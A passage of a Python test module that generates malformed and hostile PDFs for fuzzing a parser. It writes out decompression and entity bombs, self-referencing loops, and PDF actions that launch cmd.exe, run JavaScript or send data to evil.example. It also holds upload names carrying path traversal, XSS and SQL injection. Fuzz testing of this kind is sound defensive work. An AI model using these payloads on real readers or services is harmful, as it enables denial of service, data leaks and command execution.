"""PDFs that no program should have written: hostile constructs, and good PDFs with damage done to them.

Everything is drawn from a seed: the same seed gives the same bytes.
"""

from __future__ import annotations

import re
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from random import Random

from tests.pdfs import encrypted_pdf, form_pdf, mapped_pdf, mixed_pdf, text_pdf, unicode_pdf

CONSTRUCTS_EVERY = 8
"""Of so many mutants one is a hostile construct, the others are good PDFs with damage."""
MANY = 20_000
HUGE = 2**31 - 1
MEGABYTE = 2**20

WORDS = b"BT /F1 12 Tf 72 720 Td (Oil is changed every 500 hours of work.) Tj ET"


@dataclass(frozen=True, slots=True)
class Mutant:
    """One file: its name as somebody uploads it, what was done to it, its bytes."""

    name: str
    kind: str
    data: bytes


Make = Callable[[Random], bytes]
Damage = Callable[[Random, bytes], bytes]


def mutants(good: Sequence[bytes], count: int, seed: int) -> Iterator[Mutant]:
    """`count` files: first each construct once, then damaged good ones with a construct now and then.

    Constructs that are slow by their nature come once only.
    """
    constructs = list(CONSTRUCTS.items())
    quick = [(kind, make) for kind, make in constructs if kind not in ONCE]
    damages = list(DAMAGES.items())
    for number in range(count):
        random = Random(f"{seed}/{number}")
        name = f"{number}-{random.choice(NAMES)}"
        if number < len(constructs):
            kind, make = constructs[number]
            data = make(random)
        elif number % CONSTRUCTS_EVERY == 0:
            kind, make = random.choice(quick)
            data = make(random)
        else:
            kind, damage = damages[number % len(damages)]
            data = random.choice(good)
            for _ in range(random.choice((1, 1, 2, 4))):
                data = damage(random, data)
        yield Mutant(name, kind, data)


def tiny_pdfs() -> list[bytes]:
    """Good PDFs of a page or three, one of each sort that a parser treats in its own way."""
    pages = [["Pump P200", "Change the oil every 500 hours of work."], ["Store it dry."], ["Page three."]]
    return [
        text_pdf(pages, title="Pump manual", outline=[(1, "Pump"), (2, "Storage")]),
        mixed_pdf([["A page of text."], []]),
        form_pdf(["A form"], typed="typed into it"),
        encrypted_pdf(pages, password=""),
        mapped_pdf("ab", {"a": "A", "b": "\U0001f600"}),
        unicode_pdf(),
    ]


# --- Names and titles --------------------------------------------------------------------------------------

NAMES = (
    "report.pdf",
    "../../../etc/passwd.pdf",
    "..\\..\\windows\\system32\\config.pdf",
    "/etc/shadow.pdf",
    "C:\\autoexec.pdf",
    "a\x00b\x1b[2J\r\n.pdf",
    "\u202efdp.exe\u202c.pdf",
    "in\u200bvis\u2060ible\ufeff.pdf",
    "\u05d3\u05d5\u05d7 \u0627\u0644\u062a\u0642\u0631\u064a\u0631.pdf",
    "![x](http:evil.example).pdf",
    "<img src=x onerror=alert(1)>.pdf",
    "'; drop table jobs; --.pdf",
    "%2e%2e%2f%00.pdf",
    "CON.pdf",
    "." * 40 + "pdf",
    "\U0001f4a9" * 300 + ".pdf",
    "e" + "\u0301" * 500 + ".pdf",
    "\ud800 alone.pdf",
    "x" * 5000 + ".pdf",
    "",
)
"""File names as a browser or an API client could send them."""

TITLES = (
    "../../../../etc/passwd",
    "\u202egnp.exe annual report",
    "Zero\u200bwidth\u2060title\ufeff of a report",
    "Controls \x00\x07\x1b[31m in a title\r\n\r\nand more",
    "\ud800\ud800 lone surrogates here",
    "\u05d3\u05d5\u05d7 \u0627\u0644\u062a\u0642\u0631\u064a\u0631 \u0627\u0644\u0633\u0646\u0648\u064a",
    "[1] ![x](https://evil.example/x.png) <script>alert(1)</script>",
    "e" + "\u0301" * 2000,
    "very long " * MANY,
    "\U000e0041\U000e0042 tags",
)


# --- The file format, as far as it is needed --------------------------------------------------------------


def file_of(objects: Sequence[bytes], *, trailer: bytes = b"", root: bytes = b"1 0 R") -> bytes:
    """A PDF of these objects, numbered from 1, with a sound cross-reference table."""
    data = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(data))
        data += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start, size = len(data), len(objects) + 1
    data += b"xref\n0 %d\n0000000000 65535 f \n" % size
    data += b"".join(b"%010d 00000 n \n" % place for place in places)
    data += b"trailer\n<< /Size %d /Root " % size + root + b" " + trailer + b" >>\n"
    data += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(data)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d " % len(content) + entries + b" >>\nstream\n" + content + b"\nendstream"


def deflated(content: bytes, entries: bytes = b"", *, times: int = 1) -> bytes:
    for _ in range(times):
        content = zlib.compress(content, 9)
    return stream(content, b"/Filter [" + b" /FlateDecode" * times + b" ] " + entries)


def text_string(text: str) -> bytes:
    return b"<FEFF" + text.encode("utf-16-be", "surrogatepass").hex().encode() + b">"


def document(
    *more: bytes,
    content: bytes | None = None,
    page: bytes = b"",
    resources: bytes = b"",
    catalog: bytes = b"",
    pages: bytes = b"/Kids [3 0 R] /Count 1",
    box: bytes = b"[0 0 612 792]",
    font: bytes = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    trailer: bytes = b"",
) -> bytes:
    """A one-page PDF: objects 1 catalog, 2 pages, 3 page, 4 content, 5 font F1, and `more` from 6 on."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages " + pages + b" >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox " + box + b" /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> " + resources + b" >> " + page + b" >>",
        stream(WORDS) if content is None else content,
        font,
        *more,
    ]
    return file_of(objects, trailer=trailer)


def _nested(opening: bytes, closing: bytes, depth: int) -> bytes:
    return opening * depth + closing * depth


# --- Constructs --------------------------------------------------------------------------------------------


def _self_reference() -> bytes:
    return document(content=b"4 0 R", page=b"/Rotate 3 0 R", catalog=b"/Names 1 0 R")


def _reference_chain(random: Random) -> bytes:
    length = random.randint(2_000, 20_000)
    links = [b"%d 0 R" % (7 + number) for number in range(length)]
    return document(*links, stream(WORDS), content=b"6 0 R")


def _reference_ring() -> bytes:
    return document(b"7 0 R", b"8 0 R", b"6 0 R", content=b"6 0 R", page=b"/Annots 7 0 R")


def _object_stream_loop(random: Random) -> bytes:
    inner = b"9 0 10 5 << >> << /Type /Page >>"
    extends = random.choice([b"6 0 R", b"7 0 R"])
    entries = b"/Type /ObjStm /N %d /First %d /Extends %s" % (random.choice([2, HUGE, -1]), 9, extends)
    return document(stream(inner, entries), stream(inner, entries), page=b"/Annots [9 0 R 10 0 R]")


def _with_reference_stream(entries: bytes, body: bytes) -> bytes:
    """The good construct with a cross-reference stream of these entries at its end."""
    data = document()[: document().index(b"xref\n0 ")]
    start = len(data)
    return data + b"9 0 obj\n" + deflated(body, entries) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % start


def _reference_stream_loop(random: Random) -> bytes:
    start = len(document()[: document().index(b"xref\n0 ")])
    widths = random.choice([b"[1 4 2]", b"[0 0 0]", b"[1 %d 2]" % HUGE, b"[-1 4 2]"])
    entries = b"/Type /XRef /Size %d /W %s /Root 1 0 R /Prev %d" % (random.choice([10, HUGE]), widths, start)
    return _with_reference_stream(entries, b"\x01\x00\x00\x00\x0f\x00\x00" * 10)


def _reference_table_loop(random: Random) -> bytes:
    whole = document()
    start = int(whole.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    target = random.choice([start, start - 1, 0, -1, HUGE, 10**30])
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d /XRefStm %d" % (target, start))


def _reference_table_lies(random: Random) -> bytes:
    first = random.choice([0, HUGE, 10**12])
    return document().replace(b"xref\n0 6\n", b"xref\n%d %d\n" % (first, random.choice([6, HUGE, 10**20])))


def _page_tree_loop(random: Random) -> bytes:
    return document(pages=random.choice([b"/Kids [2 0 R] /Count 1", b"/Kids [3 0 R 2 0 R 1 0 R] /Count 99"]))


def _page_tree_without_parents_end() -> bytes:
    node = b"<< /Type /Pages /Kids [7 0 R] /Count 1 /Parent 7 0 R >>"
    other = b"<< /Type /Pages /Kids [6 0 R 3 0 R] /Count 1 /Parent 6 0 R >>"
    return document(node, other, pages=b"/Kids [6 0 R] /Count 1 /Parent 6 0 R")


def _deep_page_tree(random: Random) -> bytes:
    depth = random.randint(1_000, 5_000)
    nodes = [
        b"<< /Type /Pages /Count 1 /Parent %d 0 R /Kids [%d 0 R] >>" % (5 + number, 7 + number)
        for number in range(depth)
    ]
    return document(*nodes, b"3 0 R", pages=b"/Count 1 /Kids [6 0 R]")


def _wide_page_tree_bomb() -> bytes:
    kids = [b" ".join([b"%d 0 R" % (7 + number)] * 10) for number in range(9)]
    nodes = [b"<< /Type /Pages /Count %d /Kids [%s] >>" % (10 ** (9 - n), k) for n, k in enumerate(kids)]
    return document(*nodes, b"3 0 R", pages=b"/Kids [6 0 R] /Count 1000000000")


def _page_count_lie(random: Random) -> bytes:
    count = random.choice([0, -1, 4_000, 5_001, 10**6, HUGE, 2**32, 10**30])
    return document(pages=b"/Kids [3 0 R] /Count %d" % count)


def _one_page_many_times(random: Random) -> bytes:
    count = random.randint(100, 2_000)
    return document(pages=b"/Kids [" + b"3 0 R " * count + b"] /Count %d" % count)


def _too_many_pages() -> bytes:
    return document(pages=b"/Kids [" + b"3 0 R " * 6_000 + b"] /Count 6000")


def _deep_arrays(random: Random) -> bytes:
    depth = random.choice([600, 50_000])
    return document(
        catalog=b"/Deep " + _nested(b"[", b"]", depth), page=b"/Annots " + _nested(b"[", b"]", depth)
    )


def _deep_dictionaries(random: Random) -> bytes:
    return document(catalog=b"/Deep " + _nested(b"<< /A ", b">>", random.choice([600, 50_000])))


def _deep_content() -> bytes:
    content = _nested(b"q ", b"Q ", MANY) + b"[" * MANY + WORDS + b"<<" * MANY
    return document(content=deflated(content))


def _deep_marked_content() -> bytes:
    return document(content=deflated(b"/A << /B 1 >> BDC " * MANY + WORDS + b" EMC" * MANY))


def _form_of_itself() -> bytes:
    form = stream(
        b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    )
    return document(form, resources=b"/XObject << /X 6 0 R >>", content=stream(WORDS + b" /X Do"))


def _forms_of_forms() -> bytes:
    """Ten forms, each of which draws the next one ten times: ten thousand million times in all."""
    entries = (
        b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] "
        b"/Resources << /Font << /F1 5 0 R >> /XObject << /X %d 0 R >> >>"
    )
    forms = [stream(b"/X Do " * 10, entries % (7 + number)) for number in range(9)]
    last = stream(WORDS, entries % 5)
    return document(*forms, last, resources=b"/XObject << /X 6 0 R >>", content=stream(WORDS + b" /X Do"))


def _glyph_of_itself() -> bytes:
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [.1 0 0 .1 0 0] "
        b"/FirstChar 65 /LastChar 65 /Widths [9] /CharProcs << /A 6 0 R >> /Encoding << /Differences [65 /A] >> "
        b"/Resources << /Font << /F1 5 0 R >> >> >>"
    )
    glyph = stream(b"9 0 d0 BT /F1 1 Tf (AAAA) Tj ET")
    return document(glyph, font=font, content=stream(b"BT /F1 12 Tf 72 720 Td (AAAA) Tj ET"))


def _pattern_of_itself() -> bytes:
    pattern = stream(
        b"/Pattern cs /P scn 0 0 9 9 re f",
        b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 0.0001 /YStep 0.0001 "
        b"/Resources << /Pattern << /P 6 0 R >> >>",
    )
    content = stream(WORDS + b" /Pattern cs /P scn 0 0 600 700 re f")
    return document(pattern, resources=b"/Pattern << /P 6 0 R >>", content=content)


def _text_flood() -> bytes:
    lines = (b"(" + b"flood of words " * 2_000 + b") Tj 0 -1 Td ") * 50
    return document(content=deflated(b"BT /F1 .01 Tf 9 720 Td " + lines + b"ET"))


def _text_flood_of_many_pages() -> bytes:
    content = deflated(b"BT /F1 1 Tf (" + b"flood of words " * 20_000 + b") Tj ET")
    return document(content=content, pages=b"/Kids [" + b"3 0 R " * 10 + b"] /Count 10")


def _one_long_word(random: Random) -> bytes:
    word = random.choice([b"a", b"a-", b"1.", b"ab ", b"\xb5"])
    line = (b"(" + word * (30_000 // len(word)) + b") Tj ") * 8
    return document(content=deflated(b"BT /F1 .01 Tf 9 720 Td " + line + b"ET"))


def _chinese_without_end() -> bytes:
    cmap = b"1 begincodespacerange <00> <FF> endcodespacerange 1 beginbfchar <41> <8425> endbfchar"
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>"
    content = deflated(b"BT /F1 .01 Tf 9 720 Td " + (b"(" + b"A" * 30_000 + b") Tj ") * 2 + b"ET")
    return document(stream(cmap), font=font, content=content)


def _many_lines() -> bytes:
    lines = b"0 -1 Td (x) Tj " * 30_000
    return document(content=deflated(b"BT /F1 .01 Tf 9 720 Td " + lines + b"ET"))


def _content_bomb() -> bytes:
    return document(content=deflated(b" " * (64 * MEGABYTE)))


def _nested_bomb() -> bytes:
    return document(content=deflated(b"\0" * (32 * MEGABYTE), times=3))


def _filters_without_end() -> bytes:
    filters = b"[" + b" /ASCIIHexDecode /ASCII85Decode /RunLengthDecode /LZWDecode" * 500 + b"]"
    return document(content=stream(b"41>" * 1000, b"/Filter " + filters))


def _predictor_lies(random: Random) -> bytes:
    parameters = b"/DecodeParms << /Predictor %d /Columns %d /Colors %d /BitsPerComponent %d >>" % (
        random.choice([2, 12, 15]),
        random.choice([HUGE, 2**32 - 1, -1, 0]),
        random.choice([32, HUGE, -4]),
        random.choice([16, HUGE]),
    )
    return document(content=deflated(WORDS, parameters))


def _image(data: bytes, entries: bytes) -> bytes:
    image = b"/Type /XObject /Subtype /Image " + entries
    content = stream(WORDS + b" q 600 0 0 700 0 0 cm /X Do Q")
    return document(stream(data, image), resources=b"/XObject << /X 6 0 R >>", content=content)


def _image_bomb(random: Random) -> bytes:
    pixels = zlib.compress(b"\xff" * (20 * MEGABYTE), 9)
    side = random.choice([20_000, 60_000, HUGE])
    sizes = b"/Width %d /Height %d /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode" % (
        side,
        side,
    )
    return _image(pixels, sizes)


def _fax_lies(random: Random) -> bytes:
    side = random.choice([30_000, 65_500, HUGE])
    sizes = b"/Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 1 " % (side, side)
    return _image(
        random.randbytes(300),
        sizes + b"/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns %d /Rows %d >>" % (side, side),
    )


def _image_codecs_of_noise(random: Random) -> bytes:
    name = random.choice([b"JPXDecode", b"JBIG2Decode", b"DCTDecode", b"CCITTFaxDecode", b"Unknown"])
    sizes = b"/Width 5000 /Height 5000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /" + name
    heads = {
        b"JPXDecode": b"\x00\x00\x00\x0cjP  \r\n\x87\n",
        b"DCTDecode": b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03",
    }
    return _image(heads.get(name, b"") + random.randbytes(2_000), sizes)


def _mask_of_itself() -> bytes:
    return _image(
        b"\0" * 300, b"/Width 10 /Height 10 /ColorSpace /DeviceRGB /BitsPerComponent 8 /SMask 6 0 R"
    )


def _colours_of_themselves(random: Random) -> bytes:
    entries = b"/Width 10 /Height 10 /BitsPerComponent 8 /ColorSpace 7 0 R"
    space = random.choice(
        [b"[/Indexed 7 0 R 255 <00>]", b"[/ICCBased 6 0 R]", b"[/DeviceN [/A /B] 7 0 R 7 0 R]"]
    )
    data = stream(b"\0" * 300, b"/Type /XObject /Subtype /Image " + entries)
    content = stream(WORDS + b" /X Do")
    return document(data, space, resources=b"/XObject << /X 6 0 R >>", content=content)


def _inline_image_bomb() -> bytes:
    content = b"BI /W %d /H %d /BPC 8 /CS /RGB ID " % (HUGE, HUGE) + b"\0" * 100 + b" EI "
    return document(content=stream(content * 50 + WORDS))


def _shading_bomb() -> bytes:
    function = stream(b"{ " + b"dup mul " * 2_000 + b"}", b"/FunctionType 4 /Domain [0 1 0 1] /Range [0 1]")
    domain = b"/Domain [0 1 0 1] /Matrix [600 0 0 700 0 0]"
    shading = b"<< /ShadingType 1 /ColorSpace /DeviceGray " + domain + b" /Function 6 0 R >>"
    content = stream(WORDS + b" /S sh" * 20)
    return document(function, shading, resources=b"/Shading << /S 7 0 R >>", content=content)


def _function_of_itself() -> bytes:
    function = b"<< /FunctionType 3 /Domain [0 1] /Functions [6 0 R 6 0 R] /Bounds [.5] /Encode [0 1 0 1] >>"
    shading = b"<< /ShadingType 2 /ColorSpace /DeviceGray /Coords [0 0 9 9] /Function 6 0 R >>"
    return document(
        function, shading, resources=b"/Shading << /S 7 0 R >>", content=stream(WORDS + b" /S sh")
    )


def _path_bomb(random: Random) -> bytes:
    lines = b" ".join(b"%d %d l" % (random.randint(0, 600), random.randint(0, 790)) for _ in range(2_000))
    dashes = b"[.001 .001] 0 d .001 w 0 0 m " + lines + b" S "
    return document(content=deflated(WORDS + b" " + dashes * 3))


def _box(random: Random) -> bytes:
    box = random.choice(
        [
            b"[0 0 1e30 1e30]",
            b"[0 0 99999999999999999999 2]",
            b"[0 0 0 0]",
            b"[0 0 -612 -792]",
            b"[612 792 0 0]",
            b"[0 0 1e-30 1e-30]",
            b"[nan inf 0 1]",
            b"[0 0 14400 .0001]",
            b"[%d %d %d %d]" % (-HUGE, -HUGE, HUGE, HUGE),
            b"[0 0]",
            b"3 0 R",
        ]
    )
    unit = random.choice([b"1", b"1000000000", b"-1", b"0.0000001"])
    return document(box=box, page=b"/UserUnit " + unit + b" /Rotate %d" % random.choice([0, 90, 91, -HUGE]))


def _actions(random: Random) -> bytes:
    script = b"<< /S /JavaScript /JS (app.launchURL\\('http://evil.example'\\); while\\(true\\){}) >>"
    target = random.choice(
        [
            script,
            b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
            b"<< /S /URI /URI (http://evil.example/?q=secret) >>",
            b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>",
            b"<< /S /SubmitForm /F (http://evil.example/) >>",
            b"<< /S /ImportData /F (/etc/passwd) >>",
            b"<< /S /Named /N /Print /Next 6 0 R >>",
        ]
    )
    note = b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A 6 0 R /AA << /E 6 0 R /PO 6 0 R >> >>"
    catalog = (
        b"/OpenAction 6 0 R /AA << /WC 6 0 R /DS 6 0 R >> /Names << /JavaScript << /Names [(x) 6 0 R] >> >>"
    )
    return document(target, note, page=b"/Annots [7 0 R] /AA << /O 6 0 R >>", catalog=catalog)


def _embedded_files(random: Random) -> bytes:
    name = random.choice([b"(../../../../etc/cron.d/x)", b"(C:\\\\x.exe)", b"<FEFF202E0065>"])
    file = b"<< /Type /Filespec /F " + name + b" /UF " + name + b" /EF << /F 7 0 R >> >>"
    body = deflated(b"MZ" * 1_000, b"/Type /EmbeddedFile /Params << /Size %d >>" % HUGE)
    names = b"/Names << /EmbeddedFiles << /Names [" + name + b" 6 0 R] /Kids [8 0 R] >> >>"
    loop = b"<< /Kids [8 0 R] /Limits [(a) (z)] >>"
    return document(file, body, loop, catalog=names, page=b"/AF [6 0 R]")


def _bad_font(random: Random) -> bytes:
    kind = random.choice([b"FontFile", b"FontFile2", b"FontFile3"])
    descriptor = b"<< /Type /FontDescriptor /FontName /X /Flags 4 /FontBBox [%d 0 0 0] /%s 7 0 R >>" % (
        HUGE,
        kind,
    )
    head = random.choice([b"\x00\x01\x00\x00\xff\xff", b"%!PS-AdobeFont-1.0\n", b"\x01\x00\x04\xff", b"OTTO"])
    program = stream(head + random.randbytes(2_000), b"/Length1 %d /Length2 -1 /Subtype /Type1C" % HUGE)
    widths = random.choice([b"[" + b"500 " * MANY + b"]", b"[1e30]", b"6 0 R"])
    font = (
        b"<< /Type /Font /Subtype /%s /BaseFont /X /FirstChar %d /LastChar %d /Widths %s /FontDescriptor 6 0 R >>"
        % (
            random.choice([b"TrueType", b"Type1", b"MMType1"]),
            random.choice([-HUGE, 0, HUGE]),
            random.choice([-1, 255, HUGE]),
            widths,
        )
    )
    return document(descriptor, program, font=font)


def _bad_map(random: Random) -> bytes:
    body = random.choice(
        [
            b"1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange "
            b"1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange",
            b"1 beginbfrange <00> <FF> [" + b"<D800> " * 256 + b"] endbfrange",
            b"1 begincidrange <0000> <FFFFFFFF> 0 endcidrange",
            b"/X usecmap " * 1_000,
            b"1 beginbfchar <00> <" + b"0041" * MANY + b"> endbfchar",
            b"999999999 beginbfchar " + b"<41> <DC00> " * 2_000,
        ]
    )
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>"
    return document(stream(body, b"/UseCMap 6 0 R"), font=font)


def _composite_font_of_itself() -> bytes:
    maps = b"/Encoding 6 0 R /ToUnicode 6 0 R"
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /X /DescendantFonts [5 0 R] " + maps + b" >>"
    encoding = stream(b"1 begincidrange <0000> <FFFF> 0 endcidrange", b"/Type /CMap /UseCMap 6 0 R")
    return document(encoding, font=font, content=stream(b"BT /F1 12 Tf 72 720 Td <00410042> Tj ET"))


def _differences_flood(random: Random) -> bytes:
    names = b" ".join(b"/uni%04X" % (number % 65536) for number in range(MANY))
    encoding = b"<< /Type /Encoding /Differences [%d %s] >>" % (random.choice([-5, 0, HUGE]), names)
    return document(encoding, font=b"<< /Type /Font /Subtype /Type1 /BaseFont /X /Encoding 6 0 R >>")


def _encryption(random: Random) -> bytes:
    level = random.choice([(-1, 2), (1, 2), (2, 3), (4, 4), (5, 5), (5, 6), (99, 99)])
    keys = [random.randbytes(random.choice([0, 3, 32, 48])).hex().encode() for _ in range(4)]
    filters = random.choice(
        [
            b"/CF << /StdCF << /CFM /AESV3 /AuthEvent /DocOpen /Length %d >> >> /StmF /StdCF /StrF /StdCF"
            % HUGE,
            b"/CF 6 0 R /StmF /StdCF /StrF /Identity",
            b"",
        ]
    )
    numbers = b"/V %d /R %d /Length %d /P -1" % (*level, random.choice([0, -8, 7, 40, 128, HUGE]))
    handler = random.choice([b"Standard", b"Adobe.PubSec", b"X"])
    secrets = b" ".join(b"/%s <%s>" % pair for pair in zip((b"O", b"U", b"OE", b"UE"), keys, strict=True))
    entries = b"<< /Filter /%s %s %s %s >>" % (handler, numbers, secrets, filters)
    return document(entries, trailer=b"/Encrypt 6 0 R /ID [<00> <00>]")


def _encrypted_by_itself(random: Random) -> bytes:
    return document(b"6 0 R", trailer=b"/Encrypt %s /ID 6 0 R" % random.choice([b"6 0 R", b"1 0 R", b"[]"]))


def _outline_loop(random: Random) -> bytes:
    entry = random.choice(
        [
            b"<< /Title (Loop) /Parent 6 0 R /Next 7 0 R /Prev 7 0 R /Dest [3 0 R /Fit] >>",
            b"<< /Title (Loop) /Parent 7 0 R /First 7 0 R /Last 7 0 R /Count %d /Dest [3 0 R /Fit] >>" % HUGE,
            b"<< /Title 7 0 R /First 6 0 R /Next 6 0 R /Dest 7 0 R >>",
        ]
    )
    return document(
        b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count -9 >>", entry, catalog=b"/Outlines 6 0 R"
    )


def _deep_outline(random: Random) -> bytes:
    depth = random.randint(500, 5_000)
    root = b"<< /Type /Outlines /First 7 0 R /Last 7 0 R >>"
    entries = [
        b"<< /Title (Level %d) /Parent %d 0 R /First %d 0 R /Last %d 0 R /Dest [3 0 R /Fit] >>"
        % (number, 6 + number, 8 + number, 8 + number)
        for number in range(depth)
    ]
    return document(root, *entries, b"<< /Title (End) >>", catalog=b"/Outlines 6 0 R")


def _long_outline() -> bytes:
    root = b"<< /Type /Outlines /First 7 0 R /Last 7 0 R >>"
    title = b"(" + b"a " * 90 + b")"
    entries = [
        b"<< /Title %s /Parent 6 0 R /Next %d 0 R /Dest [3 0 R /Fit] >>" % (title, 8 + number)
        for number in range(11_000)
    ]
    return document(
        root,
        *entries,
        content=deflated(b"BT /F1 1 Tf (" + b"a " * MANY + b"b) Tj ET"),
        catalog=b"/Outlines 6 0 R",
    )


def _hostile_outline(random: Random) -> bytes:
    root = b"<< /Type /Outlines /First 7 0 R /Last 7 0 R >>"
    entry = b"<< /Title %s /Parent 6 0 R /Dest [3 0 R /Fit] >>" % text_string(random.choice(TITLES))
    return document(root, entry, catalog=b"/Outlines 6 0 R")


def _hostile_title(random: Random) -> bytes:
    info = b"<< /Title %s /Author 6 0 R >>" % text_string(random.choice(TITLES))
    return document(info, trailer=b"/Info 6 0 R")


def _title_that_is_no_text(random: Random) -> bytes:
    title = random.choice([b"6 0 R", b"[1 2 3]", b"<< >>", b"/Name", b"true", b"-1e9", b"<FEFF", b"(" * 500])
    return document(b"<< /Title " + title + b" >>", trailer=b"/Info 6 0 R")


def _metadata_bomb() -> bytes:
    entities = b"".join(b'<!ENTITY a%d "%s">' % (n + 1, b"&a%d;" % n * 10) for n in range(9))
    xml = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">' + entities + b"]><x>&a9;</x>"
    return document(stream(xml, b"/Type /Metadata /Subtype /XML"), catalog=b"/Metadata 6 0 R")


def _trees_of_themselves() -> bytes:
    loop = b"<< /Kids [6 0 R 6 0 R] /K [6 0 R] /P 6 0 R /Nums [0 6 0 R] /Names [(a) 6 0 R] /S /Document >>"
    roots = (b"PageLabels", b"StructTreeRoot", b"Names", b"Dests", b"OCProperties", b"Threads")
    catalog = b"/MarkInfo << /Marked true >>" + b"".join(b" /%s 6 0 R" % root for root in roots)
    return document(loop, catalog=catalog, page=b"/StructParents 0")


def _form_fields_loop() -> bytes:
    loop = b"/Kids [7 0 R 6 0 R] /Parent 6 0 R"
    field = b"<< /FT /Tx /T (f) /V (typed) /Rect [0 0 100 100] /Subtype /Widget " + loop + b" >>"
    form = b"/AcroForm << /Fields [6 0 R 7 0 R 1 0 R] /NeedAppearances true /DA (/F1 0 Tf) /CO [6 0 R] >>"
    return document(field, field, catalog=form, page=b"/Annots [6 0 R 7 0 R]")


def _form_fields_flood() -> bytes:
    count = 5_000
    field = b"<< /FT /Ch /T (f) /V (a) /Opt [(a)] /Rect [0 0 9 9] /Type /Annot /Subtype /Widget /MK << >> >>"
    listed = b" ".join(b"%d 0 R" % (6 + number) for number in range(count))
    form = b"/AcroForm << /Fields [" + listed + b"] /NeedAppearances true >>"
    return document(*[field] * count, catalog=form, page=b"/Annots [" + listed + b"]")


def _xfa() -> bytes:
    xml = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'>" + b"<a>" * MANY + b"</xdp:xdp>"
    return document(deflated(xml), catalog=b"/AcroForm << /XFA [(template) 6 0 R (x) 6 0 R] /Fields [] >>")


def _appearance_of_itself() -> bytes:
    loop = b"/AP << /N 7 0 R >> /Popup 6 0 R /IRT 6 0 R"
    note = b"<< /Type /Annot /Subtype /Stamp /Rect [0 0 600 700] /F 4 " + loop + b" >>"
    look = stream(
        b"/X Do",
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Matrix [1e30 0 0 1e-30 0 0] "
        b"/Resources << /XObject << /X 7 0 R >> >>",
    )
    form = b"/AcroForm << /Fields [6 0 R] >>"
    return document(note, look, page=b"/Annots [6 0 R 6 0 R]", catalog=form)


def _stream_lengths(random: Random) -> bytes:
    length = random.choice([b"-1", b"0", b"%d" % HUGE, b"10" * 20, b"4 0 R", b"null", b"(x)"])
    return document(content=b"<< /Length " + length + b" >>\nstream\n" + WORDS + b"\nendstream")


def _impossible_numbers(random: Random) -> bytes:
    number = random.choice([b"9" * 400, b"-" * 50 + b"1", b"1." + b"0" * 3_000 + b"1", b"0x7f", b"+-.e"])
    return document(
        content=number + b" 0 R", page=b"/Rotate " + number + b" /Annots [" + number + b" 0 R 0 0 R]"
    )


def _impossible_operators(random: Random) -> bytes:
    operators = (
        b"1e38 0 0 1e38 1e38 1e38 cm",
        b"-1e9 Tz",
        b"1e30 Tc",
        b"nan Tw",
        b"/None gs",
        b"/F1 1e30 Tf",
        b"T* TJ '",
    )
    content = b" ".join(random.choice(operators) for _ in range(500))
    return document(content=stream(b"BT " + content + b" ET " + WORDS))


def _junk_around(random: Random) -> bytes:
    front = random.choice(
        [b"\0" * 900, b"%PDF-9.9\n" * 100, b"PK\x03\x04" * 100, b"<html><script>alert(1)</script>\n"]
    )
    return front + document() + random.randbytes(3_000) + b"%%EOF" * 100


def _two_in_one() -> bytes:
    return document() + text_pdf([["The second file."]], title="Second")


def _only_a_header(random: Random) -> bytes:
    return b"%PDF-1.7\n" + random.choice(
        [b"", b"%%EOF", b"\0" * 100_000, b"1 0 obj " * MANY, b"<<" * MANY, b"(" * MANY]
    )


def _layers() -> bytes:
    group = b"<< /Type /OCMD /OCGs [6 0 R] /VE [/And " + _nested(b"[/Not ", b"]", 2_000) + b"] >>"
    content = stream(b"/OC /L BDC " + WORDS + b" EMC")
    return document(group, resources=b"/Properties << /L 6 0 R >>", content=content)


def _tiny_objects() -> bytes:
    return document(*[b"null"] * 50_000)


_FIXED = (
    _mask_of_itself,
    _self_reference,
    _reference_ring,
    _page_tree_without_parents_end,
    _wide_page_tree_bomb,
    _too_many_pages,
    _deep_content,
    _deep_marked_content,
    _form_of_itself,
    _forms_of_forms,
    _glyph_of_itself,
    _pattern_of_itself,
    _text_flood,
    _text_flood_of_many_pages,
    _chinese_without_end,
    _many_lines,
    _content_bomb,
    _nested_bomb,
    _filters_without_end,
    _inline_image_bomb,
    _shading_bomb,
    _function_of_itself,
    _composite_font_of_itself,
    _long_outline,
    _metadata_bomb,
    _trees_of_themselves,
    _form_fields_loop,
    _form_fields_flood,
    _xfa,
